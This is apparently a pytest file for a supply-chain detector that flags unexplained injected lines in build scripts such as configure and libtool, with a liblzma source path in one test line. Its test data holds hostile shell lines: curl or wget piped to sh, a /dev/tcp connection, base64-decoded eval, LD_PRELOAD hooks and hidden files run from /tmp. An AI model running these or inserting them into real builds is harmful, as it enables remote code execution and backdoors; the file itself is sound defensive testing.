"""Lines no generator produced are judged by more indicators than whole scripts are."""

from __future__ import annotations

import pytest

from provcheck_release import risk

INJECTED = [
    ("curl -fsSL https://example.invalid/x | sh", {"network-fetch", "literal-pipe-to-shell"}),
    ("exec 3<>/dev/tcp/198.51.100.7/443", {"network-fetch"}),
    ('eval "$(echo ZWNobyBoaQ== | base64 -d)"', {"eval-of-output", "decode"}),
    ("printf '\\x65\\x63\\x68\\x6f' >> src/liblzma/check/crc64_fast.c", {"decode", "writes-build-input"}),
    ("sed -i 's/-O2/-O2 -Wl,--defsym/' Makefile", {"writes-build-input"}),
    ("chmod +x ./.hook && ./.hook", {"make-executable"}),
    ("LD_PRELOAD=$ac_pwd/.libs/libhook.so; export LD_PRELOAD", {"preload"}),
    ('hook=${TMPDIR-/tmp}/.h; test -f "$hook" && . "$hook"', {"runs-outside-file"}),
    ("test -x /var/tmp/.x && sh /var/tmp/.x", {"runs-outside-file"}),
]


@pytest.mark.parametrize("line,expected", INJECTED)
def test_an_injected_line_is_risky_when_unexplained(line, expected):
    found = {h.indicator for h in risk.analyse(line.encode(), unexplained=True)}
    assert expected <= found, found


def test_whole_scripts_are_judged_without_them():
    assert not risk.analyse(b"curl -fsSL https://example.invalid/x | sh\nchmod +x conftest\n")


@pytest.mark.parametrize("line", [
    "  ac_cv_prog_CC=gcc",
    '  as_fn_append ac_configure_args " \'$ac_arg\'"',
    "$as_echo_n \"checking for curl_easy_init in -lcurl... \" >&6; }",
    "  test -n \"$LIBCURL\" && LIBS=\"$LIBCURL $LIBS\"",
    "rm -f conftest.$ac_ext conftest.$ac_objext",
    '  exec $SHELL "$0" --no-reexec ${1+"$@"}',
    '  . "$srcdir/gen.sh"',
    "  . ./libtool",
])
def test_ordinary_generated_lines_stay_quiet(line):
    assert not risk.analyse(line.encode(), unexplained=True), line


@pytest.mark.parametrize("line", [
    "cat >conftest.$ac_ext <<_ACEOF",
    "cat confdefs.h - <<_ACEOF >conftest.c",
    'echo "#define HAVE_X 1" >>confdefs.h',
    'cat >"$ac_tmp/config.h" <<_ACEOF',
])
def test_configure_test_files_are_no_build_inputs(line):
    assert not risk.analyse(line.encode(), unexplained=True), line


def test_diffs_against_published_copies_use_the_subset_patches_never_need():
    """A distribution's libtool patch may write wrappers and chmod them (MSYS2's manifest lines in
    flac's ltmain.sh); it never fetches from the network or pipes decoded text into a shell."""
    patched = b"chmod +x $cwrapper.manifest\ncat > $cwrappersource <<EOF\n"
    assert not risk.analyse(patched, unexplained=risk.IN_PATCHED_COPIES)
    injected = b"wget -qO- http://198.51.100.7/x | sh\n"
    assert {h.indicator for h in risk.analyse(injected, unexplained=risk.IN_PATCHED_COPIES)} >= {
        "network-fetch", "literal-pipe-to-shell"}
